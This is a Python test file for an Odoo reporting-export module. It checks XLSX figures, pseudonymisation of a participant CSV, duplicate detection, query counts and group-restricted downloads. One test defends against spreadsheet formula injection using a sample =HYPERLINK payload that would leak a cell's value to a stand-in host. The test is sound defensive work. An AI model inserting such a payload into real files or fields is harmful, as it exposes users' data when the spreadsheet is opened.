import base64
import csv
import io
import re
import zipfile
from xml.etree import ElementTree

from freezegun import freeze_time

from odoo.exceptions import AccessError, UserError
from odoo.tests import HttpCase, tagged, users, warmup

from ..models.kommune_funding_period import KommuneFundingPeriod
from .common_reporting import AFTER, KommuneReportingNetworkCommon

# The app's own _get_report_data of a period without figures: the period and its
# quarters (five) and the breakdowns (one), however many quarters the period has.
QUERIES_OF_AN_EMPTY_PERIOD = 6


def own_report_data(period):
    """The report data as this app writes it, without what the bridges add (their rows
    and sections, and their queries: each bridge counts its own in its tests), so that
    a query more here is not hidden by one less in a bridge, nor the other way round."""
    return KommuneFundingPeriod._get_report_data(period)


NS = {"x": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


def read_xlsx(content):
    """{sheet name: [[cell values]]} of an XLSX file (strings and numbers only)."""
    book = zipfile.ZipFile(io.BytesIO(content))
    strings = [
        "".join(node.itertext())
        for node in ElementTree.fromstring(book.read("xl/sharedStrings.xml")).findall("x:si", NS)
    ]
    names = [
        sheet.get("name")
        for sheet in ElementTree.fromstring(book.read("xl/workbook.xml")).iter(
            f"{{{NS['x']}}}sheet"
        )
    ]
    sheets = {}
    for index, name in enumerate(names, start=1):
        root = ElementTree.fromstring(book.read(f"xl/worksheets/sheet{index}.xml"))
        rows = []
        for row in root.iter(f"{{{NS['x']}}}row"):
            values = []
            for cell in row.findall("x:c", NS):
                column = re.match(r"[A-Z]+", cell.get("r")).group()
                position = ord(column) - ord("A")
                values += [None] * (position - len(values))
                raw = cell.find("x:v", NS).text
                values.append(strings[int(raw)] if cell.get("t") == "s" else float(raw))
            rows.append(values)
        sheets[name] = rows
    return sheets


def xlsx_sheets_xml(content):
    """The XML of every worksheet of an XLSX file, joined."""
    book = zipfile.ZipFile(io.BytesIO(content))
    return b"".join(
        book.read(name) for name in book.namelist() if name.startswith("xl/worksheets/sheet")
    )


@tagged("post_install", "-at_install")
class TestReportingExport(KommuneReportingNetworkCommon):
    """The files the funder receives: exact figures in the XLSX, no names in the
    participant list, stable pseudonyms, duplicates flagged, reporting only."""

    def export(self, period=None, user=None):
        with freeze_time(AFTER):
            wizard = (
                self.env["kommune.reporting.export"]
                .with_user(user or self.reporter)
                .create({"period_id": (period or self.period).id})
            )
            return base64.b64decode(wizard.xlsx_file), base64.b64decode(wizard.csv_file)

    def test_indicator_table(self):
        xlsx, _csv = self.export()
        sheets = read_xlsx(xlsx)
        table = {row[0]: row[1:] for row in next(iter(sheets.values()))[2:]}
        self.assertEqual(table["Participants"], [3, 2, 2, 0, 0], "period, then Q1 to Q4")
        self.assertEqual(table["Short Contacts"], [2, 1, 2, 0, 0])
        self.assertEqual(table["Participant Hours"], [41, 21, 20, 0, 0])
        self.assertEqual(table["Certificates"], [6, 2, 4, 0, 0])
        self.assertEqual(table["Meetings Held"], [1, 0, 1, 0, 0])
        breakdowns = list(sheets.values())[1]
        self.assertIn(["Gender", "Female", 1], breakdowns)
        self.assertIn(["Gender", "No answer", 1], breakdowns)
        self.assertIn(["Gender", "Not answered", 1], breakdowns)
        # One person: a special category below five persons is not printed exactly.
        self.assertIn(["Disability", "Yes", "< 5"], breakdowns)
        self.assertNotIn(["Disability", "Yes", 1], breakdowns)
        cooperations = list(sheets.values())[2]
        self.assertEqual(cooperations[1], [self.stage.name, self.district_spandau.name, 1])

    def test_participant_list_is_pseudonymised(self):
        _xlsx, content = self.export()
        text = content.decode("utf-8-sig")
        rows = list(csv.DictReader(io.StringIO(text)))
        self.assertEqual(len(rows), 3, "participants only: short contacts are an aggregate")
        for word in ("Teilnehmende", "Petra", "Verwaltung", "@", "Brücke"):
            self.assertNotIn(word, text)
        self.assertNotIn("10115", text, "no postcode")
        self.assertEqual(
            sorted((row["gender"], row["hours"], row["attendances"]) for row in rows),
            [("", "8", "1"), ("female", "17", "2"), ("no_answer", "9", "1")],
        )
        self.assertEqual({row["disability"] for row in rows}, {"yes", ""})
        # Stable within the period, different in the next one.
        _xlsx, again = self.export()
        self.assertEqual(again, content)
        _xlsx, earlier = self.export(self.period_2030)
        (row_2030,) = csv.DictReader(io.StringIO(earlier.decode("utf-8-sig")))
        self.assertEqual(row_2030["hours"], "8")
        self.assertNotIn(row_2030["pseudonym"], text)

    def test_duplicates_are_flagged(self):
        """Petra's questionnaire gives the same names and postcode as P1's (spelt with
        other cases and spaces): one of them is flagged as the other's duplicate."""
        p1_questionnaire = self.env["kommune.participant.questionnaire"].search(
            [("partner_id", "=", self.persons[1].id), ("period_id", "=", self.period.id)]
        )
        p1_questionnaire.write({"first_name": "Ayşe", "last_name": "Demir"})
        self.env["kommune.participant.questionnaire"].create(
            {
                "partner_id": self.admin_person.id,
                "period_id": self.period.id,
                "first_name": "AYŞE",
                "last_name": " demir",
                "zip": "10115",
            }
        )
        _xlsx, content = self.export()
        rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
        flagged = [row for row in rows if row["possible_duplicate_of"]]
        self.assertEqual(len(flagged), 1)
        pseudonyms = {row["pseudonym"] for row in rows}
        self.assertIn(flagged[0]["possible_duplicate_of"], pseudonyms)
        self.assertNotEqual(flagged[0]["possible_duplicate_of"], flagged[0]["pseudonym"])

    def test_duplicates_ignore_how_a_persian_name_is_joined(self):
        """Persian names are typed with or without zero-width non-joiners: the same
        person either way."""
        Export = self.env["kommune.reporting.export"]
        Questionnaire = self.env["kommune.participant.questionnaire"]
        keys = {
            Export._duplicate_key(
                Questionnaire.new({"first_name": first_name, "last_name": "احمدی", "zip": "10115"})
            )
            for first_name in ("علی‌رضا", "علیرضا", "علی رضا")
        }
        self.assertEqual(len(keys), 1, keys)

    def test_cooperations_with_and_without_a_district(self):
        """A stage holding cooperations with and without a district: both are counted,
        the one without a district with an empty district."""
        self.env["kommune.cooperation"].create(
            {
                "name": "Test Kooperation ohne Bezirk",
                "user_id": self.user.id,
                "stage_id": self.stage.id,
                "district_id": False,
                "date_start": "2031-05-01",
            }
        )
        xlsx, _csv = self.export()
        cooperations = list(read_xlsx(xlsx).values())[2]
        self.assertIn([self.stage.name, None, 1], cooperations)
        self.assertIn([self.stage.name, self.district_spandau.name, 1], cooperations)

    def test_a_download_builds_only_its_own_file(self):
        """The download buttons only name the file for the browser, which then fetches
        that one file: neither file is built for a click, nor the other file with it."""
        with freeze_time(AFTER):
            wizard = (
                self.env["kommune.reporting.export"]
                .with_user(self.reporter)
                .create({"period_id": self.period.id})
            )

            def forget():
                self.env.flush_all()
                self.env["kommune.reporting.export"].invalidate_model()
                self.env["kommune.funding.period"].invalidate_model()

            forget()
            wizard.action_download_xlsx()  # the user's groups and rules, once

            for action in (wizard.action_download_xlsx, wizard.action_download_csv):
                forget()
                with self.assertQueryCount(2):  # the wizard, its period's name
                    url = action()["url"]
                self.assertIn(self.period.name.replace(" ", "_"), url)
            forget()
            # The participant list alone: the indicator table would take dozens more.
            with self.assertQueryCount(7):
                self.assertTrue(wizard.csv_file)

    def test_only_reporting_exports(self):
        for user in (self.user, self.manager):
            with self.assertRaises(AccessError):
                self.export(user=user)

    def test_names_never_become_formulas(self):
        """A name typed by a user that starts like a formula (=, +, -, @) stays text in
        both files: opening them must not run it (spreadsheet formula injection)."""
        name = '=HYPERLINK("https://example.com/?leak="&A2;"Periode")'
        self.period.name = name
        self.district_spandau.name = "@SUM(1+1)"
        xlsx, content = self.export()
        sheets = read_xlsx(xlsx)
        self.assertEqual(next(iter(sheets.values()))[0][0], name, "a string, not a formula")
        self.assertNotIn(b"<f>", xlsx_sheets_xml(xlsx), "no formula at all")
        self.assertEqual(list(sheets.values())[2][1][1], "@SUM(1+1)")
        rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
        self.assertTrue(rows)
        self.assertEqual({row["period"] for row in rows}, {f"'{name}"})

    @users("ki_reporter")
    @warmup
    def test_report_data_query_count(self):
        """The data of the XLSX and the PDF summary (one method for both) take a fixed
        number of queries, whatever the volume."""
        period = self.period.with_env(self.env)
        # The period's record, the figures of the period and its four quarters (five
        # queries for all), the breakdowns and the names shown (one read per kind:
        # districts, topics, organisation types, stages, and the cooperations'
        # districts); the bridges' additions are counted in their own tests.
        with freeze_time(AFTER), self.assertQueryCount(ki_reporter=12):
            data = own_report_data(period)
        self.assertEqual(data["indicators"][0][1], [3, 2, 2, 0, 0])

    @users("ki_reporter")
    @warmup
    def test_report_data_queries_do_not_grow_with_the_quarters(self):
        """A period of four quarters costs the queries of a period of one: each figure
        is counted for the period and all its quarters in one query."""
        Period = self.env["kommune.funding.period"]
        one = Period.create(
            {"name": "Ein Quartal", "date_start": "2033-01-01", "date_end": "2033-03-31"}
        )
        four = Period.create(
            {"name": "Vier Quartale", "date_start": "2034-01-01", "date_end": "2034-12-31"}
        )
        self.assertEqual((one.quarter_count, four.quarter_count), (1, 4))
        four._get_report_data()  # what is read once whatever the period
        with self.assertQueryCount(ki_reporter=QUERIES_OF_AN_EMPTY_PERIOD):
            own_report_data(one)
        with self.assertQueryCount(ki_reporter=QUERIES_OF_AN_EMPTY_PERIOD):
            data = own_report_data(four)
        self.assertEqual(data["quarters"], ["2034-Q1", "2034-Q2", "2034-Q3", "2034-Q4"])
        self.assertEqual(data["indicators"][0][1], [0, 0, 0, 0, 0])

    def test_report_data_queries_do_not_grow_with_the_values(self):
        """More topics, districts and cooperation stages in the tables cost no more
        queries: the names of each kind are read at once, not one by one."""
        period = self.period.with_user(self.reporter)

        def count():
            self.env.flush_all()
            self.env.invalidate_all()
            before = self.cr.sql_log_count
            own_report_data(period)
            self.env.flush_all()
            return self.cr.sql_log_count - before

        with freeze_time(AFTER):
            count()  # what is read once whatever the values (the user, the rules)
            queries = count()
        recognition = self.env.ref("kommune_interkulturell.training_topic_recognition")
        self.t2.topic_id = recognition
        self.env["kommune.cooperation"].create(
            {
                "name": "Test Kooperation Pankow",
                "user_id": self.user.id,
                "stage_id": self.env.ref("kommune_interkulturell.cooperation_stage_contact").id,
                "district_id": self.env.ref("kommune_interkulturell.district_berlin_pankow").id,
                "date_start": "2031-05-01",
            }
        )
        with freeze_time(AFTER):
            self.assertEqual(count(), queries)
            data = own_report_data(period)
        sections = {section["key"]: section["rows"] for section in data["sections"]}
        self.assertEqual(len(sections["cooperations"]), 2)
        self.assertIn(recognition.display_name, [row[1] for row in sections["breakdowns"]])

    def test_report_data_per_quarter_as_each_quarter_alone(self):
        """Each figure of the indicator table, for the period and each quarter, is what
        the fixture network did in it (see KommuneReportingNetworkCommon); the figures
        of the quarters, counted together, are also those of each quarter counted
        alone."""
        # [period, Q1, Q2, Q3, Q4] of 2031, counted from the fixture's records:
        # T1 (three sessions of 3 h from 3 February) is in Q1, T2 (two of 4 h from 7
        # April) and T3 (one of 2 h on 5 May) are in Q2; nothing is trained after June.
        expected = {
            # Q1: P0, P1 (9 h in T1); Q2: P0, Petra (8 h in T2); P0 once in the period.
            "participants": [3, 2, 2, 0, 0],
            # Q1: P3 (3 h); Q2: P2, P3 (2 h in T3); P3 once in the period (5 h).
            "short_contacts": [2, 1, 2, 0, 0],
            # Q1: P0, P1, P3 in T1 (P4 never present); Q2: P0, Petra in T2, P2, P3 in T3.
            "attendances": [7, 3, 4, 0, 0],
            "hours": [41.0, 9 + 9 + 3, 8 + 8 + 2 + 2, 0, 0],
            # Q1: the persons' MO; Q2: the MO and Petra's administration.
            "organizations": [2, 1, 2, 0, 0],
            # Q1: P0, P1 of T1 (P3 attended one session of three); Q2: all of T2, T3.
            "certificates": [6, 2, 4, 0, 0],
            # The cooperation runs from 1 March: its MO 2 in every quarter, the
            # trained MO in Q1 and Q2; its administration in every quarter.
            "migrant_organizations": [2, 2, 2, 1, 1],
            "administrations": [1, 1, 1, 1, 1],
            "cooperations": [1, 1, 1, 1, 1],
            # Held on 10 June; the one of 11 June was cancelled.
            "meetings": [1, 0, 1, 0, 0],
        }
        period = self.period.with_user(self.reporter)
        with freeze_time(AFTER):
            data = period._get_report_data()
            alone = [period._get_indicators()] + [
                period._get_indicators(quarter=label) for label in data["quarters"]
            ]
        self.assertEqual(data["quarters"], ["2031-Q1", "2031-Q2", "2031-Q3", "2031-Q4"])
        labels = period._get_indicator_labels()
        self.assertEqual([key for key, _label in labels], list(expected))
        for (label, values), (key, _label) in zip(data["indicators"], labels, strict=False):
            self.assertEqual(values, expected[key], label)
            self.assertEqual(values, [figures[key] for figures in alone], label)


@tagged("post_install", "-at_install")
class TestReportingExportDownload(KommuneReportingNetworkCommon, HttpCase):
    """The participant list carries disability and minority (special categories): it
    leaves the server only for the Reporting group, also through the download route
    its button opens, whoever holds the link."""

    def test_only_reporting_downloads_the_participant_list(self):
        with freeze_time(AFTER):
            wizard = (
                self.env["kommune.reporting.export"]
                .with_user(self.reporter)
                .create({"period_id": self.period.id})
            )
            urls = [wizard.action_download_csv()["url"], wizard.action_download_xlsx()["url"]]
        self.authenticate("ki_reporter", "ki_reporter")
        with freeze_time(AFTER):
            response = self.url_open(urls[0])
        self.assertEqual(response.status_code, 200)
        header = response.content.decode("utf-8-sig").splitlines()[0].split(",")
        self.assertIn("disability", header)
        self.assertIn("minority", header)
        for login in ("ki_user", "ki_manager"):
            self.authenticate(login, login)
            for url in urls:
                with freeze_time(AFTER):
                    response = self.url_open(url)
                self.assertIn(response.status_code, (403, 404), f"{login}: {url}")
                self.assertNotIn(b"disability", response.content)
                self.assertNotIn(b"pseudonym", response.content)
        # The figures behind the list, in the dashboard's own export, are refused too.
        Dashboard = self.env["kommune.reporting.attendance"]
        for user in (self.user, self.manager):
            with self.assertRaises(UserError):
                Dashboard.with_user(user).search([]).export_data(["participant_id", "disability"])
